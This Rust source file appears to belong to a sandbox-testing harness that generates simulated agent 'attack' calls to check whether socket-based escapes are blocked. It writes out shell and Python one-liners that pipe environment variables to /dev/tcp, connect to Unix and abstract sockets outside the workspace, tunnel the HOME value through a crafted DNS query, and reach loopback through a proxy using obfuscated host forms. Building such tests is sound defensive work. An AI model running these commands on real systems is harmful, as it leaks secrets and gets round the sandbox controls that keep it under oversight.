//! Attacks by sockets of the host.

use crate::call::{Class, ModelCallSpec};
use crate::grammar::CallContext;
use crate::grammar::shell::run;

fn attack(context: &mut CallContext<'_>, kind: &'static str, line: &str) -> ModelCallSpec {
    run(context, kind, Class::Attack, line)
}

fn python(line: &str) -> String {
    format!("python3 -c 'import socket as s; {line}'")
}

pub fn tcp(context: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let port = context.layout.port;
    let line = match context.rng.below(3) {
        0 => format!("env > /dev/tcp/127.0.0.1/{port}"),
        1 => format!("exec 3<>/dev/tcp/localhost/{port}; echo x >&3"),
        _ => python(&format!(
            "s.create_connection((\"127.0.0.1\",{port}),5).send(b\"x\")"
        )),
    };
    attack(context, kind, &line)
}

pub fn udp(context: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let port = context.layout.port;
    let line = match context.rng.below(2) {
        0 => format!("echo x > /dev/udp/127.0.0.1/{port}"),
        _ => python(&format!(
            "s.socket(s.AF_INET,s.SOCK_DGRAM).sendto(b\"x\",(\"127.0.0.1\",{port}))"
        )),
    };
    attack(context, kind, &line)
}

pub fn unix(context: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let socket_path = match context.rng.below(2) {
        0 => context
            .layout
            .outside()
            .join("socket")
            .display()
            .to_string(),
        _ => "ways/link/socket".to_owned(),
    };
    let line = python(&format!("s.socket(s.AF_UNIX).connect(\"{socket_path}\")"));
    attack(context, kind, &line)
}

pub fn unnamed(context: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let name = context.layout.abstract_socket();
    let line = python(&format!("s.socket(s.AF_UNIX).connect(\"\\0{name}\")"));
    attack(context, kind, &line)
}

/// A socket in the workspace itself, on which the host listens.
pub fn datagrams(context: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let line = python("s.socket(s.AF_UNIX,s.SOCK_DGRAM).sendto(b\"x\",\"datagrams\")");
    attack(context, kind, &line)
}

/// A DNS query that carries data out.
pub fn names(context: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let port = context.layout.port;
    let line = python(&format!(
        "import os; n=os.environ.get(\"HOME\",\"x\").encode().hex()[:60].encode(); \
         q=b\"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\"+bytes([len(n)])+n+b\"\\x04test\\0\\0\\x01\\0\\x01\"; \
         s.socket(s.AF_INET,s.SOCK_DGRAM).sendto(q,(\"127.0.0.1\",{port}))"
    ));
    attack(context, kind, &line)
}

/// A request through the proxy, if there is one, to a host that is not public.
pub fn proxy(context: &mut CallContext<'_>, kind: &'static str) -> ModelCallSpec {
    let port = context.layout.port;
    let hosts = [
        "127.0.0.1",
        "localhost",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "2130706433",
        "0",
        "127.0.0.1.\\0example.com",
    ];
    let host = context.rng.pick(&hosts);
    let line = match context.rng.below(2) {
        0 => format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'CONNECT {host}:{port} HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n' >&3 && head -c 12 <&3 && echo x >&3"
        ),
        _ => format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128 && printf 'GET http://{host}:{port}/ HTTP/1.1\\r\\nHost: {host}:{port}\\r\\n\\r\\n' >&3 && head -c 12 <&3"
        ),
    };
    attack(context, kind, &line)
}
